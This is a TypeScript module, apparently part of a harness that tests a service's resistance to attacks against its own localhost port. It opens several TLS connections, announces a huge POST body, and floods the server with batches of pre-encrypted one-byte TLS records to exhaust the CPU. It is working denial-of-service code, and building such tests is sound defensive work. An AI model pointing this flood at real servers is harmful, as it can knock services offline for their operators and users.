// A body in TLS records of one byte, to another service: each costs its reader as much as a large one. They are made
// ahead, and leave in one go: who reads all that is there reads tens of thousands at a time.
import { once } from 'node:events';
import { connect as connectPlain, type Socket } from 'node:net';
import { Duplex } from 'node:stream';
import { connect, type TLSSocket } from 'node:tls';
import type { Running, Target } from '../attack.ts';

/** An attack is bounded: so many connections, ... */
const CONNECTIONS = 8;
/** ... each of which makes so many records in 50 ms ... */
const STEP_COUNT = 300;
const STEP_MS = 50;
/** ... and sends those of half a second together. */
const STEPS_A_BURST = 10;
const HEAD = 'POST / HTTP/1.1\r\nHost: other\r\nContent-Length: 1000000000000\r\n\r\n';

export async function tlsSmallRecords({ tlsPort }: Target): Promise<Running> {
  const senders = Array.from({ length: CONNECTIONS }, () => new RecordSender(tlsPort));
  await Promise.all(senders.map((one) => one.begin()));
  let steps = 0;
  const timer = setInterval(() => {
    steps += 1;
    for (const one of senders) {
      one.make(STEP_COUNT);
      if (steps % STEPS_A_BURST === 0) one.send();
    }
  }, STEP_MS);
  return {
    note: () => `${senders.reduce((sum, one) => sum + one.sent, 0)} records`,
    stop: () => {
      clearInterval(timer);
      for (const one of senders) one.stop();
    },
  };
}

/** One connection: what it encrypts is kept until it is sent. */
class RecordSender {
  sent = 0;
  private readonly raw: Socket;
  private readonly client: TLSSocket;
  private records: Buffer[] | null = null;
  private left = 0;

  constructor(port: number) {
    this.raw = connectPlain(port, '127.0.0.1');
    const { raw } = this;
    const between = new Duplex({
      read: () => {},
      write: (bytes: Buffer, _encoding, done) => {
        if (this.records === null) raw.write(bytes);
        else this.records.push(bytes);
        done();
      },
    });
    raw.on('data', (bytes) => between.push(bytes)).on('end', () => between.push(null));
    raw.on('error', () => {});
    this.client = connect({ socket: between, rejectUnauthorized: false });
    this.client.on('error', () => {});
  }

  async begin(): Promise<void> {
    await once(this.client, 'secureConnect');
    this.client.resume();
    await new Promise((resolve) => this.client.write(HEAD, resolve));
    this.records = [];
  }

  /** None while the other side holds this one back. */
  make(count: number): void {
    const isIdle = this.left === 0;
    this.left = this.raw.writableNeedDrain || this.raw.destroyed ? 0 : count;
    if (isIdle) this.makeNext();
  }

  /** One after the other: Node makes one record of what is written meanwhile. */
  private readonly makeNext = (): void => {
    if (this.left === 0) return;
    this.left -= 1;
    this.client.write('x', this.makeNext);
  };

  send(): void {
    const { raw, records } = this;
    if (records === null || raw.destroyed) return;
    this.records = [];
    this.sent += records.length;
    raw.write(Buffer.concat(records));
  }

  stop(): void {
    this.raw.destroy();
    this.client.destroy();
  }
}
